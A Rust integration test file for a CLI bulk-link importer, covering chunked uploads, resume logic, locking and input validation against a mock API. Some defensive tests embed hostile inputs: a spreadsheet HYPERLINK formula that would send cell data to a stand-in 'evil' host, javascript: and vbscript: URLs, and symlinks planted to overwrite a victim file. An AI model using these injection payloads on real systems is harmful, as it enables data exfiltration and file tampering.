//! `prolinksqr bulk import`, run as the real binary against a mock API.

mod common;

use std::time::Duration;

use common::{Bulk, KEY, bodies, result_rows, run, temp_dir, website_csv, website_records};
use serde_json::json;
use wiremock::matchers::{header, method, path};
use wiremock::{Mock, MockServer, ResponseTemplate};

fn row(line: usize, status: &str, chunk: &str, id: bool) -> Vec<String> {
    let n = line - 1;
    let (id, url) = if id {
        (
            format!("id-Link-{n}"),
            format!("https://qr-lb.co/id-Link-{n}"),
        )
    } else {
        (String::new(), String::new())
    };
    vec![
        line.to_string(),
        format!("Link {n}"),
        status.to_owned(),
        chunk.to_owned(),
        id,
        url,
    ]
}

/// A mock API whose `POST /bulk-generate` answers with `response`.
async fn bulk_server(response: impl wiremock::Respond + 'static) -> MockServer {
    let server = MockServer::start().await;
    Mock::given(method("POST"))
        .and(path("/bulk-generate"))
        .respond_with(response)
        .mount(&server)
        .await;
    server
}

#[tokio::test]
async fn every_bad_row_is_reported_and_nothing_is_sent() {
    let server = MockServer::start().await;
    let dir = temp_dir("bad-rows");
    std::fs::write(
        dir.join("in.csv"),
        "name,url\nGood,https://example.com/a\n,https://example.com/b\nNo URL,\nBare,example.com\nGood 2,https://example.com/c\nShort\n",
    )
    .unwrap();

    let out = run(
        &dir,
        &server.uri(),
        Some(KEY),
        &["bulk", "import", "in.csv", "--type", "website"],
    )
    .await;

    assert_eq!(out.code, 2, "{}", out.stderr);
    assert_eq!(
        out.stderr,
        "error: in.csv has 4 bad rows; nothing was sent:\n  \
         line 3: `name` is empty\n  \
         line 4: `url` is empty\n  \
         line 5: `url` is not an absolute URL (like https://example.com/a): \"example.com\"\n  \
         line 7: 1 values, but the header has 2 columns\n"
    );
    assert_eq!(out.stdout, "");
    assert_eq!(server.received_requests().await.unwrap().len(), 0);
    assert!(!dir.join("in.result.csv").exists());
}

#[tokio::test]
async fn a_2500_row_file_is_sent_in_three_chunks() {
    let server = MockServer::start().await;
    Mock::given(method("POST"))
        .and(path("/bulk-generate"))
        .and(header("authorization", format!("Basic {KEY}").as_str()))
        .and(header("content-type", "application/json"))
        .respond_with(Bulk::new())
        .expect(3)
        .mount(&server)
        .await;
    let dir = temp_dir("three-chunks");
    std::fs::write(dir.join("in.csv"), website_csv(2500)).unwrap();

    let out = run(
        &dir,
        &server.uri(),
        Some(KEY),
        &["bulk", "import", "in.csv", "--type", "website"],
    )
    .await;

    assert_eq!(out.code, 0, "{}", out.stderr);
    assert_eq!(
        out.stderr,
        "created 2500 website links in 3 requests; result in in.result.csv\n"
    );
    let requests = server.received_requests().await.unwrap();
    assert!(requests.iter().all(|r| r.url.query().is_none()));
    assert_eq!(
        bodies(&server, "/bulk-generate").await,
        [
            json!({"type": "website", "data": website_records(1, 1200)}),
            json!({"type": "website", "data": website_records(1201, 2400)}),
            json!({"type": "website", "data": website_records(2401, 2500)}),
        ]
    );
    let rows = result_rows(&dir.join("in.result.csv"));
    assert_eq!(rows.len(), 2500);
    assert_eq!(rows[0], row(2, "created", "1", true));
    assert_eq!(rows[1199], row(1201, "created", "1", true));
    assert_eq!(rows[1200], row(1202, "created", "2", true));
    assert_eq!(rows[2499], row(2501, "created", "3", true));
}

#[tokio::test]
async fn a_failed_chunk_stops_and_resume_sends_only_the_rest() {
    let server = bulk_server(Bulk::failing(&[2]).with_status(400)).await;
    let dir = temp_dir("resume");
    std::fs::write(dir.join("in.csv"), website_csv(2500)).unwrap();

    let out = run(
        &dir,
        &server.uri(),
        Some(KEY),
        &["bulk", "import", "in.csv", "--type", "website"],
    )
    .await;

    assert_eq!(out.code, 1, "{}", out.stderr);
    assert!(
        out.stderr
            .starts_with("error: chunk 2 (lines 1202-2401) failed: "),
        "{}",
        out.stderr
    );
    assert!(
        out.stderr.contains("database unavailable"),
        "{}",
        out.stderr
    );
    assert!(
        out.stderr.ends_with(
            "\n  created (sent, server answered 2xx): lines 2-1201\n  \
             failed (refused with a 4xx or not sent: not created): lines 1202-2401\n  \
             not sent: lines 2402-2501\n\
             result written to in.result.csv; to send the rest: prolinksqr bulk import in.csv \
             --type website --resume in.result.csv\n"
        ),
        "{}",
        out.stderr
    );
    assert_eq!(
        bodies(&server, "/bulk-generate").await,
        [
            json!({"type": "website", "data": website_records(1, 1200)}),
            json!({"type": "website", "data": website_records(1201, 2400)}),
        ]
    );
    let rows = result_rows(&dir.join("in.result.csv"));
    assert_eq!(rows.len(), 2500);
    assert_eq!(rows[1199], row(1201, "created", "1", true));
    assert_eq!(rows[1200], row(1202, "failed", "2", false));
    assert_eq!(rows[2399], row(2401, "failed", "2", false));
    assert_eq!(rows[2400], row(2402, "not-sent", "", false));
    assert_eq!(rows[2499], row(2501, "not-sent", "", false));

    server.reset().await;
    Mock::given(method("POST"))
        .and(path("/bulk-generate"))
        .respond_with(Bulk::new())
        .expect(2)
        .mount(&server)
        .await;
    let out = run(
        &dir,
        &server.uri(),
        Some(KEY),
        &[
            "bulk",
            "import",
            "in.csv",
            "--type",
            "website",
            "--resume",
            "in.result.csv",
        ],
    )
    .await;

    assert_eq!(out.code, 0, "{}", out.stderr);
    assert_eq!(
        out.stderr,
        "skipping 1200 rows already created (lines 2-1201)\n\
         created 1300 website links in 2 requests; result in in.result.csv\n"
    );
    assert_eq!(
        bodies(&server, "/bulk-generate").await,
        [
            json!({"type": "website", "data": website_records(1201, 2400)}),
            json!({"type": "website", "data": website_records(2401, 2500)}),
        ]
    );
    let rows = result_rows(&dir.join("in.result.csv"));
    assert_eq!(rows.len(), 2500);
    assert_eq!(rows[1199], row(1201, "created", "1", true));
    assert_eq!(rows[1200], row(1202, "created", "2", true));
    assert_eq!(rows[2499], row(2501, "created", "3", true));
}

#[tokio::test]
async fn a_chunk_without_an_answer_is_unknown_and_resume_asks_what_to_do() {
    let server = bulk_server(ResponseTemplate::new(200).set_delay(Duration::from_secs(3))).await;
    let dir = temp_dir("unknown");
    std::fs::write(dir.join("in.csv"), website_csv(2)).unwrap();

    let out = run(
        &dir,
        &server.uri(),
        Some(KEY),
        &[
            "bulk",
            "import",
            "in.csv",
            "--type",
            "website",
            "--chunk-timeout",
            "1",
        ],
    )
    .await;

    assert_eq!(out.code, 1, "{}", out.stderr);
    assert!(
        out.stderr
            .starts_with("error: chunk 1 (lines 2-3) was sent, but its outcome is unknown: "),
        "{}",
        out.stderr
    );
    assert!(
        out.stderr
            .contains("\n  unknown (sent, no usable answer: check before resending): lines 2-3\n"),
        "{}",
        out.stderr
    );
    assert!(
        out.stderr
            .ends_with(" --resume in.result.csv (with --resend-unknown or --skip-unknown)\n"),
        "{}",
        out.stderr
    );
    assert_eq!(server.received_requests().await.unwrap().len(), 1);
    assert_eq!(
        result_rows(&dir.join("in.result.csv")),
        [row(2, "unknown", "1", false), row(3, "unknown", "1", false)]
    );

    server.reset().await;
    let resume = [
        "bulk",
        "import",
        "in.csv",
        "--type",
        "website",
        "--resume",
        "in.result.csv",
    ];
    let out = run(&dir, &server.uri(), Some(KEY), &resume).await;
    assert_eq!(out.code, 2, "{}", out.stderr);
    assert_eq!(
        out.stderr,
        "error: in.result.csv: the outcome of lines 2-3 is unknown (sent, never answered); check \
         whether those links exist (e.g. `prolinksqr links export`), then resume with \
         --skip-unknown (treat them as created) or --resend-unknown (send them again)\n"
    );
    assert_eq!(server.received_requests().await.unwrap().len(), 0);

    let out = run(
        &dir,
        &server.uri(),
        Some(KEY),
        &[&resume[..], &["--skip-unknown"]].concat(),
    )
    .await;
    assert_eq!(out.code, 0, "{}", out.stderr);
    assert_eq!(server.received_requests().await.unwrap().len(), 0);
    assert_eq!(
        result_rows(&dir.join("in.result.csv")),
        [row(2, "created", "1", false), row(3, "created", "1", false)]
    );
}

#[tokio::test]
async fn resend_unknown_sends_those_rows_again() {
    let server = bulk_server(Bulk::new()).await;
    let dir = temp_dir("resend");
    std::fs::write(dir.join("in.csv"), website_csv(3)).unwrap();
    std::fs::write(
        dir.join("earlier.csv"),
        "line,name,status,chunk,id,url\n2,Link 1,created,1,a,b\n3,Link 2,unknown,2,,\n4,Link 3,not-sent,,,\n",
    )
    .unwrap();

    let out = run(
        &dir,
        &server.uri(),
        Some(KEY),
        &[
            "bulk",
            "import",
            "in.csv",
            "--type",
            "website",
            "--resume",
            "earlier.csv",
            "--resend-unknown",
            "--result",
            "after.csv",
        ],
    )
    .await;

    assert_eq!(out.code, 0, "{}", out.stderr);
    assert_eq!(
        bodies(&server, "/bulk-generate").await,
        [json!({"type": "website", "data": website_records(2, 3)})]
    );
    assert_eq!(
        result_rows(&dir.join("after.csv")),
        [
            vec!["2", "Link 1", "created", "1", "a", "b"],
            row(3, "created", "2", true)
                .iter()
                .map(String::as_str)
                .collect(),
            row(4, "created", "2", true)
                .iter()
                .map(String::as_str)
                .collect(),
        ]
    );
}

#[tokio::test]
async fn resume_refuses_a_result_file_of_another_input() {
    let server = MockServer::start().await;
    let dir = temp_dir("mismatch");
    std::fs::write(dir.join("in.csv"), website_csv(2)).unwrap();
    std::fs::write(
        dir.join("other.csv"),
        "line,name,status,chunk,id,url\n2,Something else,created,1,,\n3,Link 2,created,1,,\n",
    )
    .unwrap();

    let out = run(
        &dir,
        &server.uri(),
        Some(KEY),
        &[
            "bulk",
            "import",
            "in.csv",
            "--type",
            "website",
            "--resume",
            "other.csv",
        ],
    )
    .await;

    assert_eq!(out.code, 2, "{}", out.stderr);
    assert_eq!(
        out.stderr,
        "error: other.csv: it does not match the input: line 2 (\"Link 1\") is not in it as \
         such; resume with the result file of this same CSV\n"
    );
    assert_eq!(server.received_requests().await.unwrap().len(), 0);
}

#[tokio::test]
async fn folder_is_found_by_name_or_id() {
    let server = MockServer::start().await;
    Mock::given(method("GET"))
        .and(path("/folders"))
        .and(header("authorization", format!("Basic {KEY}").as_str()))
        .respond_with(ResponseTemplate::new(200).set_body_json(json!({"data": [
            {"id": "f-1", "name": "Campaigns"},
            {"id": "f-2", "name": "Twice"},
            {"id": "f-3", "name": "Twice"},
        ]})))
        .mount(&server)
        .await;
    Mock::given(method("POST"))
        .and(path("/bulk-generate"))
        .respond_with(Bulk::new())
        .mount(&server)
        .await;
    let dir = temp_dir("folder");
    std::fs::write(dir.join("in.csv"), "phone,name\n+15550100,Call us\n").unwrap();
    let import = |folder: &'static str| {
        [
            "bulk", "import", "in.csv", "--type", "sms", "--folder", folder,
        ]
    };

    let out = run(&dir, &server.uri(), Some(KEY), &import("Campaigns")).await;
    assert_eq!(out.code, 0, "{}", out.stderr);
    let out = run(&dir, &server.uri(), Some(KEY), &import("f-3")).await;
    assert_eq!(out.code, 0, "{}", out.stderr);
    let requests = server.received_requests().await.unwrap();
    let calls: Vec<_> = requests
        .iter()
        .map(|r| {
            (
                r.method.to_string(),
                r.url.path().to_owned(),
                r.url.query().map(str::to_owned),
            )
        })
        .collect();
    let call = |m: &str, p: &str| (m.to_owned(), p.to_owned(), None);
    assert_eq!(
        calls,
        [
            call("GET", "/folders"),
            call("POST", "/bulk-generate"),
            call("GET", "/folders"),
            call("POST", "/bulk-generate"),
        ]
    );
    let record = json!([{"name": "Call us", "phone": "+15550100"}]);
    assert_eq!(
        bodies(&server, "/bulk-generate").await,
        [
            json!({"type": "sms", "folderId": "f-1", "data": record}),
            json!({"type": "sms", "folderId": "f-3", "data": record}),
        ]
    );

    server.reset().await;
    Mock::given(method("GET"))
        .and(path("/folders"))
        .respond_with(ResponseTemplate::new(200).set_body_json(json!({"data": [
            {"id": "f-2", "name": "Twice"},
            {"id": "f-3", "name": "Twice"},
        ]})))
        .mount(&server)
        .await;
    let out = run(&dir, &server.uri(), Some(KEY), &import("Twice")).await;
    assert_eq!(out.code, 2);
    assert_eq!(
        out.stderr,
        "error: 2 folders are named \"Twice\" (f-2, f-3): pass the id instead\n"
    );
    let out = run(&dir, &server.uri(), Some(KEY), &import("Nowhere")).await;
    assert_eq!(out.code, 2);
    assert_eq!(
        out.stderr,
        "error: no folder has the id or name \"Nowhere\" (see `prolinksqr folders list`)\n"
    );
    let requests = server.received_requests().await.unwrap();
    assert_eq!(requests.len(), 2);
    assert!(requests.iter().all(|r| r.url.path() == "/folders"));
}

#[tokio::test]
async fn product_and_vcard_rows_become_typed_records() {
    let server = bulk_server(ResponseTemplate::new(200).set_body_string("not json")).await;
    let dir = temp_dir("types");
    std::fs::write(
        dir.join("products.csv"),
        "name,productName,subTotal,tax,currency\nMug,Blue mug,12.5,2,EUR\nCup,Cup,,,\n",
    )
    .unwrap();
    std::fs::write(
        dir.join("cards.csv"),
        "name,firstName,lastName,contact,email,city\nAda,Ada,Lovelace,+44 20,ada@example.org,London\n",
    )
    .unwrap();

    let out = run(
        &dir,
        &server.uri(),
        Some(KEY),
        &["bulk", "import", "products.csv", "--type", "product"],
    )
    .await;
    // A 2xx whose body is not what anyone expected still means the links were made.
    assert_eq!(out.code, 0, "{}", out.stderr);
    let out = run(
        &dir,
        &server.uri(),
        Some(KEY),
        &["bulk", "import", "cards.csv", "--type", "vcard"],
    )
    .await;
    assert_eq!(out.code, 0, "{}", out.stderr);

    assert_eq!(
        bodies(&server, "/bulk-generate").await,
        [
            json!({"type": "product", "data": [
                {"name": "Mug", "productName": "Blue mug", "subTotal": 12.5, "tax": 2.0, "currency": "EUR"},
                {"name": "Cup", "productName": "Cup"},
            ]}),
            json!({"type": "vcard", "data": [
                {"name": "Ada", "firstName": "Ada", "lastName": "Lovelace", "contact": "+44 20",
                 "email": "ada@example.org", "city": "London"},
            ]}),
        ]
    );
    assert_eq!(
        result_rows(&dir.join("products.result.csv")),
        [
            vec!["2", "Mug", "created", "1", "", ""],
            vec!["3", "Cup", "created", "1", "", ""],
        ]
    );
}

#[cfg(unix)]
#[tokio::test]
async fn ctrl_c_while_waiting_leaves_the_chunk_unknown() {
    let server = bulk_server(ResponseTemplate::new(200).set_delay(Duration::from_secs(20))).await;
    let dir = temp_dir("ctrl-c");
    std::fs::write(dir.join("in.csv"), website_csv(2)).unwrap();
    let child = spawn(&dir, &server.uri(), &IMPORT);
    requests_reach(&server, 1).await;
    assert_eq!(server.received_requests().await.unwrap().len(), 1);
    let kill = std::process::Command::new("kill")
        .args(["-INT", &child.id().to_string()])
        .status()
        .unwrap();
    assert!(kill.success());
    let out = wait(child).await;

    assert_eq!(out.code, 130, "{}", out.stderr);
    assert!(
        out.stderr.starts_with(
            "error: chunk 1 (lines 2-3) was sent, but its outcome is unknown: interrupted (Ctrl-C)\n"
        ),
        "{}",
        out.stderr
    );
    assert_eq!(
        result_rows(&dir.join("in.result.csv")),
        [row(2, "unknown", "1", false), row(3, "unknown", "1", false)]
    );
}

/// Starts `prolinksqr args` in `dir` without waiting for it.
fn spawn(dir: &std::path::Path, base_url: &str, args: &[&str]) -> std::process::Child {
    std::process::Command::new(env!("CARGO_BIN_EXE_prolinksqr"))
        .current_dir(dir)
        .args(args)
        .env("PROLINKSQR_API_KEY", KEY)
        .env("PROLINKSQR_BASE_URL", base_url)
        .stdin(std::process::Stdio::null())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap()
}

/// Waits until `server` has received `count` requests (at most 5 s).
async fn requests_reach(server: &MockServer, count: usize) {
    for _ in 0..100 {
        if server.received_requests().await.unwrap().len() >= count {
            return;
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    panic!("the server did not receive {count} requests");
}

async fn wait(child: std::process::Child) -> common::Run {
    tokio::task::spawn_blocking(move || child.wait_with_output().unwrap())
        .await
        .unwrap()
        .into()
}

const IMPORT: [&str; 5] = ["bulk", "import", "in.csv", "--type", "website"];

#[tokio::test]
async fn a_second_import_into_the_same_result_file_is_refused() {
    let server = bulk_server(ResponseTemplate::new(200).set_delay(Duration::from_secs(2))).await;
    let dir = temp_dir("lock");
    std::fs::write(dir.join("in.csv"), website_csv(2)).unwrap();

    let first = spawn(&dir, &server.uri(), &IMPORT);
    requests_reach(&server, 1).await;
    let pid = first.id();
    let second = run(&dir, &server.uri(), Some(KEY), &IMPORT).await;
    let first = wait(first).await;

    assert_eq!(second.code, 2, "{}", second.stderr);
    let expected = format!(
        "error: another `prolinksqr bulk import` is writing in.result.csv (pid {pid}, started "
    );
    assert!(second.stderr.starts_with(&expected), "{}", second.stderr);
    assert!(
        second
            .stderr
            .ends_with(" GMT; lock file in.result.csv.lock): wait for it to end\n"),
        "{}",
        second.stderr
    );
    assert_eq!(first.code, 0, "{}", first.stderr);
    // Each row was sent once: by the first run only.
    assert_eq!(server.received_requests().await.unwrap().len(), 1);
    assert!(
        !dir.join("in.result.csv.lock").exists(),
        "the lock file is removed"
    );
    assert_eq!(
        result_rows(&dir.join("in.result.csv")),
        [row(2, "created", "1", false), row(3, "created", "1", false)]
    );

    // Once the first has ended, the next run takes the lock.
    let out = run(&dir, &server.uri(), Some(KEY), &IMPORT).await;
    assert_eq!(out.code, 0, "{}", out.stderr);
}

#[tokio::test]
async fn a_5xx_is_unknown_and_resume_does_not_resend_it_unasked() {
    for status in [504, 500] {
        let server = MockServer::start().await;
        let bulk = Bulk::failing(&[2]).with_status(status);
        Mock::given(method("POST"))
            .and(path("/bulk-generate"))
            .respond_with(bulk.clone())
            .mount(&server)
            .await;
        let dir = temp_dir(&format!("status-{status}"));
        std::fs::write(dir.join("in.csv"), website_csv(1300)).unwrap();

        let out = run(&dir, &server.uri(), Some(KEY), &IMPORT).await;

        assert_eq!(out.code, 1, "{}", out.stderr);
        assert!(
            out.stderr.starts_with(&format!(
                "error: chunk 2 (lines 1202-1301) was sent, but its outcome is unknown: \
                 bulkGenerate: {status} "
            )),
            "{}",
            out.stderr
        );
        assert_eq!(bulk.calls(), 2);
        let rows = result_rows(&dir.join("in.result.csv"));
        assert_eq!(rows[1199], row(1201, "created", "1", true));
        assert_eq!(rows[1200], row(1202, "unknown", "2", false));
        assert_eq!(rows[1299], row(1301, "unknown", "2", false));

        let resume = [&IMPORT[..], &["--resume", "in.result.csv"]].concat();
        let out = run(&dir, &server.uri(), Some(KEY), &resume).await;
        assert_eq!(out.code, 2, "{}", out.stderr);
        assert!(
            out.stderr.starts_with(
                "error: in.result.csv: the outcome of lines 1202-1301 is unknown (sent, never \
                 answered)"
            ),
            "{}",
            out.stderr
        );
        assert_eq!(bulk.calls(), 2, "nothing was sent again");

        let out = run(
            &dir,
            &server.uri(),
            Some(KEY),
            &[&resume[..], &["--resend-unknown"]].concat(),
        )
        .await;
        assert_eq!(out.code, 0, "{}", out.stderr);
        assert_eq!(bulk.calls(), 3, "resent when asked");
        let rows = result_rows(&dir.join("in.result.csv"));
        assert_eq!(rows[1200], row(1202, "created", "2", true));
    }
}

#[cfg(unix)]
#[tokio::test]
async fn a_result_file_that_is_the_input_is_refused() {
    let server = bulk_server(Bulk::new()).await;
    let dir = temp_dir("result-is-input");
    let csv = website_csv(2);
    std::fs::write(dir.join("in.csv"), &csv).unwrap();
    std::os::unix::fs::symlink("in.csv", dir.join("symlink.csv")).unwrap();
    std::fs::hard_link(dir.join("in.csv"), dir.join("hard.csv")).unwrap();

    for result in ["in.csv", "./in.csv", "symlink.csv", "hard.csv"] {
        let out = run(
            &dir,
            &server.uri(),
            Some(KEY),
            &[&IMPORT[..], &["--result", result]].concat(),
        )
        .await;
        assert_eq!(out.code, 2, "{result}: {}", out.stderr);
        assert_eq!(
            out.stderr,
            format!(
                "error: the result file {result} is the input file in.csv: pass another --result\n"
            )
        );
    }
    assert_eq!(server.received_requests().await.unwrap().len(), 0);
    assert_eq!(std::fs::read_to_string(dir.join("in.csv")).unwrap(), csv);
}

#[cfg(unix)]
#[tokio::test]
async fn symlinks_planted_beside_the_result_file_are_not_followed() {
    let server = bulk_server(Bulk::new()).await;
    let dir = temp_dir("planted");
    std::fs::write(dir.join("in.csv"), website_csv(2)).unwrap();
    std::fs::write(dir.join("victim.txt"), "precious\n").unwrap();
    // Where the result file used to be written before its rename.
    std::os::unix::fs::symlink("victim.txt", dir.join("in.result.csv.tmp")).unwrap();

    let out = run(&dir, &server.uri(), Some(KEY), &IMPORT).await;

    assert_eq!(out.code, 0, "{}", out.stderr);
    assert_eq!(
        std::fs::read_to_string(dir.join("victim.txt")).unwrap(),
        "precious\n"
    );
    assert_eq!(
        result_rows(&dir.join("in.result.csv")),
        [row(2, "created", "1", true), row(3, "created", "1", true)]
    );

    // At the lock file's path: refused, nothing written through it, nothing sent.
    std::os::unix::fs::symlink("victim.txt", dir.join("in.result.csv.lock")).unwrap();
    server.reset().await;
    let out = run(&dir, &server.uri(), Some(KEY), &IMPORT).await;
    assert_eq!(out.code, 1, "{}", out.stderr);
    assert!(
        out.stderr
            .starts_with("error: cannot lock in.result.csv.lock: "),
        "{}",
        out.stderr
    );
    assert_eq!(
        std::fs::read_to_string(dir.join("victim.txt")).unwrap(),
        "precious\n"
    );
    assert_eq!(server.received_requests().await.unwrap().len(), 0);
}

#[tokio::test]
async fn a_tampered_result_file_is_refused_with_the_line() {
    let server = MockServer::start().await;
    let dir = temp_dir("tampered");
    std::fs::write(dir.join("in.csv"), website_csv(2)).unwrap();
    for (content, error) in [
        (
            "2,Link 1,created,18446744073709551615,,\n3,Link 2,not-sent,,,\n",
            "line 2: chunk \"18446744073709551615\" is out of range (1 to 1000000000)",
        ),
        (
            "2,Link 1,created,0,,\n3,Link 2,not-sent,,,\n",
            "line 2: chunk \"0\" is out of range (1 to 1000000000)",
        ),
        (
            "2,Link 1,created,99999999999999999999999,,\n3,Link 2,not-sent,,,\n",
            "line 2: chunk \"99999999999999999999999\" is out of range (1 to 1000000000)",
        ),
        (
            "18446744073709551616,Link 1,created,1,,\n3,Link 2,not-sent,,,\n",
            "line 2: bad line number \"18446744073709551616\"",
        ),
        (
            "2,Link 1,created,1,,\n2,Link 1,created,1,,\n",
            "line 3: line 2 comes after line 2: the rows are not those of an input, in its order",
        ),
    ] {
        std::fs::write(
            dir.join("earlier.csv"),
            format!("line,name,status,chunk,id,url\n{content}"),
        )
        .unwrap();
        let out = run(
            &dir,
            &server.uri(),
            Some(KEY),
            &[
                &IMPORT[..],
                &["--resume", "earlier.csv", "--result", "out.csv"],
            ]
            .concat(),
        )
        .await;
        assert_eq!(out.code, 2, "{}", out.stderr);
        assert_eq!(out.stderr, format!("error: earlier.csv: {error}\n"));
    }
    assert_eq!(server.received_requests().await.unwrap().len(), 0);
}

#[tokio::test]
async fn urls_that_are_not_http_or_https_are_refused() {
    let server = MockServer::start().await;
    let dir = temp_dir("schemes");
    std::fs::write(
        dir.join("in.csv"),
        "name,url\nA,javascript:alert(document.cookie)\nB,https://example.com/b\nC,vbscript://x/msgbox\n",
    )
    .unwrap();

    let out = run(&dir, &server.uri(), Some(KEY), &IMPORT).await;

    assert_eq!(out.code, 2, "{}", out.stderr);
    assert_eq!(
        out.stderr,
        "error: in.csv has 2 bad rows; nothing was sent:\n  \
         line 2: `url` is not an http or https URL: \"javascript:alert(document.cookie)\"\n  \
         line 4: `url` is not an http or https URL: \"vbscript://x/msgbox\"\n"
    );
    assert_eq!(server.received_requests().await.unwrap().len(), 0);
}

#[tokio::test]
async fn formulas_are_quoted_in_the_result_file_and_read_back_on_resume() {
    let server = bulk_server(ResponseTemplate::new(200).set_body_json(json!({"data": [
        {"dynamic_link_id": "+id1", "full_dynamic_url": "=1+1"},
        {"dynamic_link_id": "@id2", "full_dynamic_url": "https://qr-lb.co/b"},
        {"dynamic_link_id": "'id3", "full_dynamic_url": "-https://qr-lb.co/c"},
    ]})))
    .await;
    let dir = temp_dir("formulas");
    std::fs::write(
        dir.join("in.csv"),
        "name,url\n\"=HYPERLINK(\"\"http://evil/?\"\"&A1,\"\"x\"\")\",https://example.com/a\n-5,https://example.com/b\n@SUM(A1),https://example.com/c\n",
    )
    .unwrap();

    let out = run(&dir, &server.uri(), Some(KEY), &IMPORT).await;

    assert_eq!(out.code, 0, "{}", out.stderr);
    let written = std::fs::read_to_string(dir.join("in.result.csv")).unwrap();
    assert_eq!(
        written,
        "line,name,status,chunk,id,url\n\
         2,\"'=HYPERLINK(\"\"http://evil/?\"\"&A1,\"\"x\"\")\",created,1,'+id1,'=1+1\n\
         3,'-5,created,1,'@id2,https://qr-lb.co/b\n\
         4,'@SUM(A1),created,1,''id3,'-https://qr-lb.co/c\n"
    );

    // Resumed, the names match the input again: nothing is sent, nothing changes.
    let out = run(
        &dir,
        &server.uri(),
        Some(KEY),
        &[&IMPORT[..], &["--resume", "in.result.csv"]].concat(),
    )
    .await;
    assert_eq!(out.code, 0, "{}", out.stderr);
    assert_eq!(
        std::fs::read_to_string(dir.join("in.result.csv")).unwrap(),
        written
    );
    assert_eq!(server.received_requests().await.unwrap().len(), 1);
}

#[cfg(unix)]
#[tokio::test]
async fn a_killed_import_leaves_a_journal_that_the_next_run_must_resume_from() {
    let server = bulk_server(ResponseTemplate::new(200).set_delay(Duration::from_secs(30))).await;
    let dir = temp_dir("killed");
    std::fs::write(dir.join("in.csv"), website_csv(1300)).unwrap();

    let mut child = spawn(&dir, &server.uri(), &IMPORT);
    requests_reach(&server, 1).await;
    child.kill().unwrap(); // SIGKILL: no chance to tidy up
    child.wait().unwrap();

    let journals: Vec<String> = std::fs::read_dir(&dir)
        .unwrap()
        .map(|e| e.unwrap().file_name().into_string().unwrap())
        .filter(|name| name.starts_with(".in.result.csv.") && name.ends_with(".partial"))
        .collect();
    assert_eq!(journals.len(), 1, "{journals:?}");
    let journal = &journals[0];
    let rows = result_rows(&dir.join(journal));
    assert_eq!(
        rows.len(),
        1200,
        "the chunk in flight, and nothing after it"
    );
    assert_eq!(rows[0], row(2, "unknown", "1", false));
    assert_eq!(rows[1199], row(1201, "unknown", "1", false));

    server.reset().await;
    Mock::given(method("POST"))
        .and(path("/bulk-generate"))
        .respond_with(Bulk::new())
        .mount(&server)
        .await;
    let out = run(&dir, &server.uri(), Some(KEY), &IMPORT).await;
    assert_eq!(out.code, 2, "{}", out.stderr);
    assert_eq!(
        out.stderr,
        format!(
            "error: an earlier import into in.result.csv did not finish (it was killed): \
             ./{journal} records what it sent; resume from it: prolinksqr bulk import in.csv \
             --type website --resume ./{journal} --result in.result.csv\n"
        )
    );
    assert_eq!(server.received_requests().await.unwrap().len(), 0);

    let resume = [
        &IMPORT[..],
        &[
            "--resume",
            journal,
            "--result",
            "in.result.csv",
            "--skip-unknown",
        ],
    ]
    .concat();
    let out = run(&dir, &server.uri(), Some(KEY), &resume).await;
    assert_eq!(out.code, 0, "{}", out.stderr);
    assert_eq!(
        bodies(&server, "/bulk-generate").await,
        [json!({"type": "website", "data": website_records(1201, 1300)})]
    );
    let rows = result_rows(&dir.join("in.result.csv"));
    assert_eq!(rows.len(), 1300);
    assert_eq!(rows[1199], row(1201, "created", "1", false));
    assert_eq!(rows[1200], row(1202, "created", "2", true));
    assert!(!dir.join(journal).exists(), "the journal was taken over");
}

#[tokio::test]
async fn at_most_100_bad_rows_are_listed_and_all_are_counted() {
    let server = MockServer::start().await;
    let dir = temp_dir("many-bad");
    let mut csv = String::from("name,url\n");
    for n in 1..=150 {
        csv.push_str(&format!("Link {n},ftp://example.com/{n}\n"));
    }
    std::fs::write(dir.join("in.csv"), csv).unwrap();

    let out = run(&dir, &server.uri(), Some(KEY), &IMPORT).await;

    assert_eq!(out.code, 2, "{}", out.stderr);
    let lines: Vec<&str> = out.stderr.lines().collect();
    assert_eq!(
        lines[0],
        "error: in.csv has 150 bad rows; nothing was sent:"
    );
    assert_eq!(lines.len(), 102);
    assert_eq!(
        lines[100],
        "  line 101: `url` is not an http or https URL: \"ftp://example.com/100\""
    );
    assert_eq!(lines[101], "  ... and 50 more");
    assert_eq!(server.received_requests().await.unwrap().len(), 0);
}
